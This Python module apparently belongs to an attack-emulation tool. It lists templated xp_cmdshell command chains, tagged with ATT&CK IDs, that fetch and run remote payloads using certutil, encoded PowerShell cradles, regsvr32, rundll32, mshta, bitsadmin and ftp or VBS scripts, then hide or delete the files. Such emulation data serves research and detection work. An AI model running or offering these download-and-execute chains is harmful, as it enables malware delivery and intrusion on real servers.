"""Attacks that fetch a program with what the system has and run it."""

from longtail.fleet.attack import Attack

ENGINE = ("mssql", "sqlagent")

RECIPES = (
    Attack("certutil", ENGINE, ("T1059.003", "T1105", "T1140", "T1070.004"), "certutil fetches, the file runs", r"""
xp: certutil -urlcache -split -f {url}.exe {drop}\{tool}.exe
or
xp: certutil.exe -urlcache -f {url}.txt {drop}\{tool}.b64 & certutil -decode {drop}\{tool}.b64 {drop}\{tool}.exe
or
xp: certutil -verifyctl -split -f {url}.exe {drop}\{tool}.exe

xp: {drop}\{tool}.exe
or
xp: start /b {drop}\{tool}.exe -i 127.0.0.1 -p {port}
or
xp: cmd /c {drop}\{tool}.exe {id}

nothing
or
xp: certutil -urlcache -split -f {url}.exe delete

nothing
or
xp: del {drop}\{tool}.exe
or
xp: tasklist
"""),
    Attack("powershell-cradle", ENGINE, ("T1059.001", "T1027", "T1105"), "an encoded or plain download cradle", r"""
nothing
or
xp: powershell -c "$PSVersionTable.PSVersion"

xp: powershell -nop -w hidden -enc {longblob}==
or
xp: powershell -NoP -NonI -W Hidden -Exec Bypass -EncodedCommand {longblob}=
or
xp: powershell -nop -c "IEX(New-Object Net.WebClient).DownloadString('{url}.ps1')"
or
xp: powershell "(New-Object System.Net.WebClient).DownloadFile('{url}.exe','{drop}\{tool}.exe'); Start-Process
.. {drop}\{tool}.exe"
  {drop}\{tool}.exe
or
xp: powershell -ep bypass iwr {url}.ps1 -UseBasicParsing ^| iex

nothing
or
xp: powershell -nop -w hidden -enc {longblob2}==
  {drop}\{tool}.exe | @ --silent
or
xp: whoami /priv
"""),
    Attack("scriptlet", ENGINE, ("T1218.010", "T1059.003"), "regsvr32 runs a scriptlet from afar", r"""
xp: regsvr32 /s /n /u /i:{url}.sct scrobj.dll
or
xp: regsvr32.exe /u /n /s /i:{url} scrobj.dll
or
xp: regsvr32 /s /i:{drop}\{tool}.txt scrobj.dll

nothing
or
xp: {drop}\{tool}.exe
or
xp: regsvr32 /s {drop}\{tool}.dll
"""),
    Attack("rundll32", ENGINE, ("T1218.011", "T1105"), "rundll32 runs a library from a writable directory", r"""
xp: bitsadmin /transfer {rnd} /download /priority foreground {url}.dll {drop}\{tool}.dll
or
xp: curl -o {drop}\{tool}.dll {url}.dll
or
xp: copy \\{wan}\{letter}\{tool}.dll {drop}\{tool}.dll

xp: rundll32 {drop}\{tool}.dll,{rnd}
or
xp: rundll32.exe {drop}\{tool}.dll,#1
or
xp: rundll32 {drop}\{tool}.dat,DllRegisterServer {id}

nothing
or
xp: del {drop}\{tool}.dll
"""),
    Attack("mshta", ENGINE, ("T1218.005", "T1059.005"), "mshta runs a page or script from afar", r"""
xp: mshta {url}.hta
or
xp: mshta.exe {url}
or
xp: mshta vbscript:Execute("CreateObject(""WScript.Shell"").Run ""powershell -nop -w 1 -c iex(irm {url})"",0:close")

nothing
or
xp: cscript //e:jscript {drop}\{tool}.txt
or
xp: wmic os get /format:"{url}.xsl"
"""),
    Attack("ftp-script", ENGINE, ("T1105", "T1059.003", "T1564"), "a script for ftp or VBS written line by line", r"""
xp: echo open {wan}>{drop}\{rnd}.txt&echo user {letter} {rnd}>>{drop}\{rnd}.txt&echo get {tool}.exe>>{drop}\{rnd}.txt
or
xp: echo Set x=CreateObject("Microsoft.XMLHTTP"):x.Open "GET","{url}",0:x.Send()>{drop}\{rnd}.vbs

xp: ftp -n -s:{drop}\{rnd}.txt
or
xp: cscript {drop}\{rnd}.vbs
or
xp: finger {letter}@{wan} ^> {drop}\{rnd}.txt

xp: attrib +h +s {drop}\{tool}.exe
or
xp: del {drop}\{rnd}.txt

xp: {drop}\{tool}.exe
or
xp: cd /d {drop} & {tool}.exe
"""),
)  # fmt: skip
